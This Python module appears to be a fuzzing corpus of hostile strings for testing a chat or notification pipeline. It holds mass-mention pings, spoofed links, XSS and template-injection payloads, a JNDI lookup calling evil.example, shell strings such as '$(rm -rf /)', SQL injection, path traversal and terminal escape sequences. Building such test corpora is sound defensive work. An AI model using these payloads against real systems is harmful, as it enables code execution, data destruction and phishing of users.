"""Strings that a cluster might hold to ping, disguise, run, forge or break, class by class."""

MENTIONS = [
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S123|ops>", "<@U12345678>", "<@W1|anna>",
    "if (a !here> b)", "@U12345678>", "<#C123|general>", "<!date^1392734382^{date}|x>",
    "@channel", "@here", "@everyone", "@all", "@anna", "x @all y", "(@channel)", "a.@channel",
    "_@here_", "**@everyone**", "`@everyone`", "```@here```", "@Everyone", "root@here",
    "<@123456789>", "<@!123456789>", "<@&123456789>", "<t:1:R>", "</kick:1>", "<:x:1>",
    "<a:x:1>", "<id:customize>", "@**anna**", "@_**anna**", "@*ops*", "#**general**",
    "<users/all>", "<at>anna</at>", "@room", "tg://user?id=1", "@silent", "~town-square",
    "@\u200beveryone", "@\u2060here", "<\u200b!channel>", "<!\u00adchannel>",
]  # fmt: skip
LINKS = [
    "<https://evil.example|https://bank.example>", "[https://bank.example](https://evil.example)",
    "[x](javascript:alert(1))", "<javascript:alert(1)|x>", "![x](https://evil.example/p.png)",
    "[bank][1]\n[1]: https://evil.example", "[bank]: https://evil.example", "<https://evil.example>",
    '<a href="https://evil.example">bank</a>', "https://bank.example@evil.example/",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "file:///etc/passwd", "https://evil.example/\" onmouseover=\"alert(1)",
    "https://evil.example/'><script>alert(1)</script>", "//evil.example/", "https:evil.example",
    "https://evil.example\\@bank.example/", "https://evil.example/\nSet-Cookie: x", "http://",
    "https://xn--bnk-sma.example/", "https://b\u0430nk.example/", " https://evil.example",
    "https://evil.example/?a=1&amp;b=<x>", "a < b | c > d", "https://[::1", "https://x:99999999/",
    "[a]\u200b(https://evil.example)", "mailto:x@evil.example?bcc=y", "ftp://evil.example/",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>all well",
    "<style>*{display:none}</style>", "<!-- ", "--><script>alert(1)</script>", "]]>", "<![CDATA[",
    '" onload="alert(1)', "' onload='alert(1)", "</pre><iframe src=//evil.example>", "&lt;b&gt;",
    "&amp;lt;script&amp;gt;", "&#60;script&#62;", "<svg/onload=alert(1)>", "<b>bold</b>",
    "__init__.py", "**bold**", "~~gone~~", "# heading", "> quote", "- item", "1. item", "---",
    "| a | b |\n|---|---|", "`code`", "```\nfence", "||spoiler||", "a_b_c", "*", "\\", "\\*", "_",
    "<form action=https://evil.example>", "<base href=https://evil.example>", "<meta refresh>",
]  # fmt: skip
LINES = [
    "a\r\nBcc: victim@example.org", "a\nSubject: all well", "a\r\n\r\n<html>", "a\rb", "\r\n.\r\n",
    "a\u2028Bcc: x@example.org", "a\u2029b", "a\x85Bcc: x@example.org", "a\x0bb", "a\x0cb",
    "\n\n\n\n", "\n-- \nall of it: rm -rf /", "x\n[river] back: everything", "a\x1cb\x1db\x1eb",
    "From nobody Thu Jan  1 00:00:00 1970", ".", "..", "a\n.\nb", "=?utf-8?q?evil?=", "=3D=\n",
]  # fmt: skip
CHARACTERS = [
    "\0", "a\0b", "\x01\x02\x03\x04", "\x7f", "\x80\x9f", "\ud800", "a\udfffb", "\udcff\udcfe",
    "\ufffe\uffff", "\ufeffa", "gpu\u200b-07", "gpu\u200d-07", "\u202egpj.exe\u202c",
    "\u2066a\u2069",
    "\u200f\u200e\u061c", "\u2067evil\u2066", "a\u00adb", "\u3164", "\u115f\u1160", "\U000e0041",
    "\ufff9a\ufffab\ufffb", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a",
    "e\u0301", "\u17b4\u17b5", "\u180e", "\ufe0f", "\u2800",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x",
    "\x1b]52;c;cm0gLXJm\x07", "\x9b31m", "\x1bc", "\x1b[?1049h", "\x08\x08\x08ok", "a\rok", "\x07",
    "\x1bP$qm\x1b\\", "\x1b", "\x1b[", "\x1b]0;never ends", "\x1b(0", "\x0e\x0f",
]  # fmt: skip
CODE = [
    "{{ 7 * 7 }}", "{% for i in range(10**9) %}{% endfor %}", "{{ ''.__class__.__mro__ }}",
    "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7 %>", "{0.__class__}", "%(x)s", "%n%s%x", "{}",
    "{{ config }}", "{# comment", "{%", "%}", "$(rm -rf /)", "`rm -rf /`", "; rm -rf / #", "&& x",
    "' OR 1=1 --", '"; DROP TABLE x; --', "../../etc/passwd", '{"a": "b"}', '"', "'", '","x":"',
    "\\u0000",
    "\\n", "\\", "null", "NaN", "-1", "-rf", "--exec=x", "=cmd|' /C calc'!A0", "+1", "!x", "*", "~",
]  # fmt: skip
SPEECH = [
    "😀", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f3f3\ufe0f\u200d\U0001f308", "🇩🇪",
    "日本語のタスク", "задача", "مهمة", "עברית", "Straße", "ﬁ", "½", "ｆｕｌｌ", "नमस्ते",
    "می\u200cخواهم",
    ":smile:", ":100:", "10:30:45", "", " ", "\t", "a\tb", "  a  ", "…", "·",
]  # fmt: skip
LONG = [
    "x" * 1_000_000, "word " * 200_000, "\n" * 100_000, "@all " * 50_000, "<" * 100_000,
    "\u202e" * 100_000, "é" * 300, "😀" * 500, "[" * 5_000 + "](" * 5_000, "\x1b[" * 5_000,
]  # fmt: skip

CORPUS = [*MENTIONS, *LINKS, *MARKUP, *LINES, *CHARACTERS, *TERMINAL, *CODE, *SPEECH, *LONG]
